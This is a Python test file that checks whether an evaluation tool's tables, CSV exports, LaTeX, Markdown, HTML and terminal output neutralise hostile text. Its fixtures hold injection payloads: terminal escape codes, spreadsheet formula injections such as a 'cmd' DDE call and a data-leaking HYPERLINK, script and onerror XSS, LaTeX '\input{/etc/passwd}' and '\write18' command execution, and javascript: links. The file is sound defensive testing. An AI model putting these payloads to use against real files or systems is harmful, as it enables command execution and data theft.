"""Texts of strangers where a terminal, a spreadsheet, LaTeX, Markdown or a browser would obey them."""

from __future__ import annotations

import csv
import io
import json
import os
import pty
import re
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import pandas as pd
import pytest

from judge.analysis.distributions import csv_text
from judge.base.printing.output import html_table
from judge.base.printing.tables import Column, Table, render
from judge.base.printing.text_layout import as_written, no_formula, visible
from judge.explanations.audit.store import AuditStore, snapshot
from judge.explanations.audit.study_csv import import_study_csv, write_study_csv
from tests.hardening.forks import forked
from tests.web.audits import make_audit

ESCAPES = "\x1b]0;taken\x07\x1b[2J\x1b[31m\u202eevil\u2066\x00\x9b2J\x08\x7f\r"
BAD = re.compile("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    '=HYPERLINK("http://example.org?x="&A1)',
)
HTML = "<script>document.title='taken'</script><img src=//example.org/x onerror=alert(1)>"
LATEX = r"\input{/etc/passwd}\write18{id}$\def\x{\x}\x$ % ^^5cinput{x} {"
MARKDOWN = "![x](http://example.org/x.png) [a](javascript:alert(1)) <img src=x> | `x` \n# head"


def table(text: str, *, free: bool = False) -> Table:
    rows = [{"name": text, "value": 1.0}]
    return Table("a title " + text, [Column("name", "name", text=free), Column("value", text)], rows, "sig", (text,))


@pytest.mark.parametrize("form", ["table", "md", "latex"])
@pytest.mark.parametrize("width", [None, 30, 100])
def test_no_table_moves_a_terminal(form: str, width: int | None) -> None:
    lines = render(table(ESCAPES), form, width=width).splitlines()
    assert not any(BAD.search(line) for line in lines), lines


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_csv_cell_is_a_formula(cell: str) -> None:
    read = next(csv.DictReader(io.StringIO(render(table(cell), "csv"))))
    assert read["name"] == f"'{cell}"
    frame = pd.DataFrame({"explanation": [cell, None, "-1.5"], "rating": [-1.0, 2.0, 3.0]})
    rows = list(csv.DictReader(io.StringIO(csv_text(frame))))
    assert [row["explanation"] for row in rows] == [f"'{cell}", "", "-1.5"]
    assert rows[0]["rating"] == "-1.0"
    assert as_written(no_formula(cell)) == cell


@pytest.mark.parametrize("cell", ["-1", "+0.5", "-1e3", "-", "—", "'quoted'", "a=b", "", "-inf", 3, None, -1.5])
def test_numbers_and_words_stay_as_they_are(cell: object) -> None:
    assert no_formula(cell) is cell
    assert not isinstance(cell, str) or as_written(cell) == cell


def test_an_annotators_note_is_no_formula_and_comes_back_as_it_was(tmp_path: Path) -> None:
    with make_audit(tmp_path / "audit.sqlite") as store:
        values = {category.key: 0 for category in store.categories}
        for item, note in enumerate(FORMULAS[:3], start=1):
            store.answer("=Ada()", item, values, note=note)
        write_study_csv(snapshot(store), tmp_path / "out.csv")
        before = store.remarks()
    with (tmp_path / "out.csv").open(newline="") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+", "\t"))]
    with make_audit(tmp_path / "again.sqlite") as again:
        import_study_csv(again, tmp_path / "out.csv")
        assert {key: note for key, (note, _) in again.remarks().items()} == {k: note for k, (note, _) in before.items()}
        assert again.registered() == ["=Ada()"]


@pytest.mark.parametrize("free", [True, False])
def test_latex_and_markdown_set_texts_as_they_are(free: bool) -> None:
    text = render(table(LATEX, free=free), "latex")
    for command in (r"\input", r"\write", r"\def", "^^", "$"):
        body = "\n".join(line for line in text.splitlines() if not line.startswith("%"))
        assert command not in body.replace(r"\textbackslash{}", "").replace(r"\$", ""), command
    assert not any("\n" in line for line in text.split("\n"))
    shown = render(table(MARKDOWN, free=free), "md")
    assert "<img" not in shown.replace("\\<", "")
    assert "](http" not in shown.replace("\\](", "").replace("]\\(", "")
    assert "\n# head" not in shown


def test_html_tables_escape_everything() -> None:
    shown = str(html_table(table(HTML)))
    assert "<script>document" not in shown
    assert "<img src" not in shown


def test_json_tables_are_json() -> None:
    assert json.loads(render(table(ESCAPES + HTML), "json"))["rows"][0]["name"] == ESCAPES + HTML


def test_visible_keeps_lines_and_letters() -> None:
    text = "Zwölf Öfen\tund\n\n中文 שלום नमस्ते 👩\u200d👧 ﷺ \u00a0…"
    assert visible(text) == text
    assert not BAD.search(visible(ESCAPES))
    assert "\\x1b" in visible(ESCAPES)


def on_terminal(arguments: Sequence[str | Path], folder: Path) -> bytes:
    """What a command writes to a terminal, on either stream."""
    main, second = pty.openpty()

    def shown() -> None:
        os.environ.update(NO_COLOR="1", TERM="xterm", COLUMNS="80")

    child = forked(folder, *arguments, before=shown, tty=second).code
    os.close(second)
    found = b""
    while True:
        try:
            piece = os.read(main, 65536)
        except OSError:
            break
        if not piece:
            break
        found += piece
    os.waitpid(child, 0)
    os.close(main)
    return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("texts")
    story = {
        "id": f"s{ESCAPES}",
        "story_prompt": ESCAPES,
        "story": ESCAPES + "A story.",
        "text": ESCAPES + "A story.",
        "system": ESCAPES,
    }
    (folder / "stories.jsonl").write_text(json.dumps(story) + "\n")
    (folder / "story.txt").write_text(ESCAPES + "A story.")
    (folder / "mine.jinja").write_text("{# \x1b]0;taken\x07 #}{{ story }}")
    (folder / "answers.jsonl").write_text(json.dumps({"text": f"Rating: 3 {ESCAPES}", "id": ESCAPES}) + "\n")
    (folder / "bad.yaml").write_text('judge: "\\e]0;taken\\a\\u202e"\n"\\e[2J": 1\n')
    return folder


@pytest.mark.parametrize(
    "command",
    [
        ("data", "show", "stories.jsonl"),
        ("data", "check", "stories.jsonl"),
        ("data", "show", "stories.jsonl", "none"),
        ("prompts", "render", "--eval-prompt", "ep1", "--criterion", "CH", "--set", "story_file=story.txt"),
        ("prompts", "show", "./mine.jinja"),
        ("prompts", "check", "./mine.jinja"),
        ("try", "story.txt", "--judge", "surface", "--eval-prompts", "ep1"),
        ("parse", "answers.jsonl"),
        ("run", "bad.yaml", "--dry-run"),
        ("run", f"no{ESCAPES.replace(chr(0), '')}.yaml"),
    ],
    ids=lambda command: " ".join(command[:2])[:20].encode("ascii", "replace").decode(),
)
def test_no_command_lets_a_text_move_the_terminal(command: tuple[str, ...], hostile: Path) -> None:
    shown = on_terminal(command, hostile).decode("utf-8", "replace").replace("\r\n", "\n")
    shown = re.sub("\x1b\\[[0-9;]*[mK]|\x1b\\[\\?25[lh]", "", shown)
    assert shown.strip()
    assert "Traceback" not in shown
    assert not BAD.search(shown), shown


@pytest.mark.parametrize("how", [">&-", "> /dev/full", "2>&-", "| true"])
def test_a_stream_that_cannot_be_written_is_no_traceback(how: str, tmp_path: Path) -> None:
    command = f'"{sys.executable}" -m judge data list {how}'
    found = subprocess.run(
        ["bash", "-c", command], cwd=tmp_path, capture_output=True, text=True, timeout=60, check=False
    )
    assert "Traceback" not in found.stderr
    assert "Exception ignored" not in found.stderr


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252", "utf-16"])
def test_a_narrow_encoding_is_no_traceback(encoding: str, tmp_path: Path) -> None:
    for command in (("prompts", "list"), ("data", "show", "demo"), ("run", "…none")):
        found = forked(tmp_path, *command, encoding=encoding)
        assert "Traceback" not in found.text.replace("\0", "")
        assert found.code in (0, 1)


def test_a_narrow_encoding_of_the_environment_is_no_traceback(tmp_path: Path) -> None:
    env = {**os.environ, "PYTHONIOENCODING": "ascii"}
    command = [sys.executable, "-m", "judge", "data", "show", "demo"]
    found = subprocess.run(command, cwd=tmp_path, capture_output=True, timeout=60, env=env, check=False)
    assert (b"Traceback" in found.stderr, found.returncode) == (False, 0)


def test_an_audit_of_escapes_is_reported_without_them(tmp_path: Path) -> None:
    with make_audit(tmp_path / "audit.sqlite") as store:
        values = {category.key: 0 for category in store.categories}
        store.answer("Ada", 1, values, note=ESCAPES)
    with AuditStore.open(tmp_path / "audit.sqlite", writing=False):
        shown = on_terminal(("audit", "report", "audit.sqlite"), tmp_path).decode("utf-8", "replace")
    assert not BAD.search(shown.replace("\r\n", "\n"))
